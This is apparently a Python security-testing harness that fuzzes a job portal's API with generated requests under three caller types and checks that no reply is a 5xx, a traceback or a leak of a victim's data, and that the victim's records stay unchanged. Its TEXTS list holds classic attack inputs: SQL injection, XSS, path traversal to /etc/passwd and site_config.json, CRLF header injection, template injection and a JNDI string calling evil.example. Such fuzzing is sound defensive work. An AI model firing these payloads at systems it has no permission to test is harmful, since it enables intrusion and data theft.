"""Generated requests to every method: `python -m lab.attack.requests`; REQUESTS sets their number.

No answer may be a 5xx, or contain a traceback or the victim's data. The victim's records must not change.
"""

import http.client
import json
import multiprocessing
import os
import secrets
import time
import traceback
from collections import Counter
from typing import NamedTuple
from urllib.parse import urlencode, urlsplit

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from job_portal.rules import MARKET, NOTICES
from job_portal.tests.actor import API, CONTACT, company_values, fresh_number, job_values
from lab.attack.methods import methods
from lab.attack.victim import Victim
from lab.report import Report, main
from lab.visitor import BASE_URL, TIMEOUT_SECONDS, Administrator, Visitor

REQUESTS = int(os.environ.get("REQUESTS", "100000"))
WORKERS = 2
RENEWED_AFTER = 300
CALLERS = ("a guest", "an account", "an account's key")
# The embedded host's exception for features that only a bench has.
NOT_ON_THIS_HOST = b"UnknownCallError"

# Texts that have broken servers.
TEXTS = [
    *("", " ", "\0", "a\0b", "\ud800", "\u202e\u200f\ufeff", "१२३४५६७८९०", "ﷺ" * 50, "e" + "\u0301" * 200),
    *("x" * 141, "x" * 20_001, "\r\nSet-Cookie: sid=Administrator", "' or 1=1 -- ", '" or ""="', "\\"),
    *("'; drop table `tabUser`; --", "1) union select password from __Auth --", "` or sleep(5) or `"),
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "{{ 7*7 }}"),
    *("{% raw %}", "${jndi:ldap://evil.example/a}", "%s%s%n", "{0.__class__}", "../../../../etc/passwd"),
    *("/private/files/../../site_config.json", "file:///etc/passwd", "//evil.example", "%", "_%", "None"),
    *("null", "NaN", "true", "[]", "{}", '{"a": {"b": 1}}', '[["name", "like", "%"]]', "[" * 3000, "Guest"),
    *("Administrator", "__init__", "0", "-1", "1e309", "9" * 40, "2026-02-30", "0000-00-00 00:00:00"),
]
NUMBERS = [0, -1, 1.5, -0.0, 1e308, float("inf"), float("nan"), 2**31, 2**63, -(2**63) - 1, 10**300]
_texts = st.sampled_from(TEXTS) | st.text(max_size=24)
_scalars = st.none() | st.booleans() | st.sampled_from(NUMBERS) | st.integers() | _texts
HOSTILE = st.recursive(
    _scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_texts, inner, max_size=3),
    max_leaves=6,
)


class Request(NamedTuple):
    """One request without its sender."""

    verb: str
    path: str
    headers: dict[str, str]
    body: bytes


@st.composite
def requests(draw, known: dict[str, list]) -> Request:
    """A call of a method: real values for most parameters or for none, and up to three hostile ones besides.

    :param known: real values by parameter, the victim's among them.
    """
    method = draw(st.sampled_from(methods()))
    values = {}
    if draw(st.booleans()):
        values = {name: draw(st.sampled_from(known[name])) for name in method.parameters if name in known}
    for name in draw(st.lists(st.sampled_from([*method.parameters, "unknown"]), max_size=3)):
        values[name] = draw(HOSTILE)
    path = f"/api/method/{draw(st.sampled_from(method.names))}"
    how = draw(st.sampled_from(["json", "json", "form", "query"]))
    if how == "json":
        return Request("POST", path, {"Content-Type": "application/json"}, json.dumps(values).encode())
    pairs = {name: each if isinstance(each, str) else json.dumps(each) for name, each in values.items()}
    # Servers refuse a longer address.
    pairs = {name: text[:3000] for name, text in pairs.items()}
    encoded = urlencode(pairs, encoding="utf-8", errors="surrogatepass")
    if how == "query":
        return Request("GET", f"{path}?{encoded}", {}, b"")
    return Request("POST", path, {"Content-Type": "application/x-www-form-urlencoded"}, encoded.encode())


class Sender:
    """A worker's keep-alive connection and its attacking account."""

    def __init__(self, administrator: Administrator, marks: list[bytes]):
        self._administrator, self._marks = administrator, marks
        address = urlsplit(BASE_URL)
        self._connection = http.client.HTTPConnection(
            address.hostname, address.port or 80, timeout=TIMEOUT_SECONDS
        )
        self.statuses: Counter[str] = Counter()
        self.renew()

    def renew(self) -> None:
        """Use a new account with an approved company: the old one may have logged out or deleted itself."""
        visitor = Visitor()
        session = visitor.sign_up(fresh_number(), self._administrator)
        visitor.agree()
        self.company = visitor.add_company()
        self._administrator.change("JP Company", self.company, status="Approved")
        self.job = visitor.message(f"{API}post_job", **job_values())["name"]
        cookies = "; ".join(f"{cookie.name}={cookie.value}" for cookie in visitor.http.cookies)
        self._headers = {
            "a guest": {},
            "an account": {"Cookie": cookies, "X-Frappe-CSRF-Token": visitor.csrf_token},
            "an account's key": {"Authorization": f"token {session['token']}"},
        }

    def send(self, request: Request, caller: str) -> None:
        """Send a request. Raises AssertionError for an answer that no attacker may get."""
        headers = {"Accept": "application/json", **self._headers[caller], **request.headers}
        try:
            self._connection.request(request.verb, request.path, request.body or None, headers)
            reply = self._connection.getresponse()
            body = reply.read()
        except (http.client.HTTPException, ConnectionError):
            # A server may close the connection because of a body that it does not read.
            self._connection.close()
            self.statuses["closed"] += 1
            return
        if NOT_ON_THIS_HOST in body:
            self.statuses["bench only"] += 1
            return
        self.statuses[str(reply.status)] += 1
        got = f"{caller} got {reply.status}: {body[:600]!r}"
        assert reply.status < 500, got
        assert b"Traceback (most recent" not in body, got
        assert not any(mark in body for mark in self._marks), got


def worker(count: int, number: int, known: dict, marks: list[str]) -> tuple[Counter, str]:
    """Send `count` requests as each caller. Returns the received statuses and the smallest failing case."""
    sender = Sender(Administrator(), [mark.encode() for mark in marks])
    for name in ("name", "company_name", "docname"):
        known[name].append(sender.company)
    for name in ("name", "job"):
        known[name].append(sender.job)
    sent = 0

    @seed(number)
    @settings(
        max_examples=count,
        database=None,
        deadline=None,
        phases=[Phase.generate, Phase.shrink],
        suppress_health_check=list(HealthCheck),
        print_blob=False,
    )
    @given(requests(known))
    def attack(request: Request) -> None:
        nonlocal sent
        for caller in CALLERS:
            sender.send(request, caller)
        sent += 1
        if sent % RENEWED_AFTER == 0:
            sender.renew()

    try:
        attack()
    except BaseException as error:
        notes = "\n".join(getattr(error, "__notes__", []))
        return sender.statuses, f"{''.join(traceback.format_exception_only(error))}\n{notes}"
    return sender.statuses, ""


def battery(report: Report) -> None:
    """Run the workers in parallel, then check the victim's records."""
    administrator = Administrator()
    before = administrator.configure(sms_gateway="Outbox", sends_per_address=10**6, sends_per_site=10**6)
    try:
        _attack(report, administrator)
    finally:
        administrator.configure(**before)


def _attack(report: Report, administrator: Administrator) -> None:
    victim = Victim(administrator)
    stored = victim.everything()
    known = {
        **{
            name: [value]
            for name, value in {**company_values(**victim.files), **CONTACT, **job_values()}.items()
        },
        **{name: [victim.company] for name in ("company_name", "docname", "company")},
        "name": [victim.company, victim.job, victim.application],
        "job": [victim.job],
        "application": [victim.application],
        "searcher": [victim.searcher],
        "look": [victim.look],
        "reason": MARKET["report_reasons"],
        "kind": ["photo", "resume", "json", "pdf"],
        "purpose": list(NOTICES),
        "notices": [{purpose: NOTICES[purpose]["version"]} for purpose in NOTICES],
        "language": ["en", "hi"],
        "selected_hr": [victim.hr_row],
        "resume": [victim.resume],
        "decision": [*MARKET["application_moves"], "restore", "note"],
        "interview_at": ["2030-01-01 10:00:00"],
        "status": [*MARKET["job_statuses"], *MARKET["application_statuses"]],
        "order": MARKET["job_orders"],
        "limit": [1, 50],
        "radius_km": [5, 100],
        "hr_row_id": [victim.hr_row],
        "mobile_no": [fresh_number(), "9876543210"],
        "used_for": ["Login", "Signup"],
        "modified": [stored[part]["modified"] for part in ("company", "job", "searcher")],
        "file_url": [*victim.files.values()],
        "doctype": ["JP Company", "User"],
    }
    seeds = [secrets.randbelow(2**32) for _ in range(WORKERS)]
    print(f"{REQUESTS:,} requests to {BASE_URL}, seeds {seeds}", flush=True)
    since = time.monotonic()
    with multiprocessing.get_context("spawn").Pool(WORKERS) as pool:
        share = -(-REQUESTS // WORKERS // len(CALLERS))
        found = pool.starmap(worker, [(share, number, known, victim.marks) for number in seeds])
    statuses = sum((counted for counted, _ in found), Counter())
    seconds = time.monotonic() - since
    report.check(
        "generated requests answered",
        f"{statuses.total():,} in {seconds:.0f} s: {dict(sorted(statuses.items()))}",
        statuses.total() >= REQUESTS,
    )
    for _, failure in found:
        if failure:
            print(failure)
    broken = sum(1 for _, failure in found if failure)
    report.equal("workers that met a 5xx, a traceback, or a word of the victim's", broken, 0)
    now = victim.everything()
    differ = [part for part, value in now.items() if value != stored[part]]
    report.equal(
        f"of {len(now)} parts of the victims, such as files and keys, those that changed", differ, []
    )


if __name__ == "__main__":
    main("Generated requests", battery)
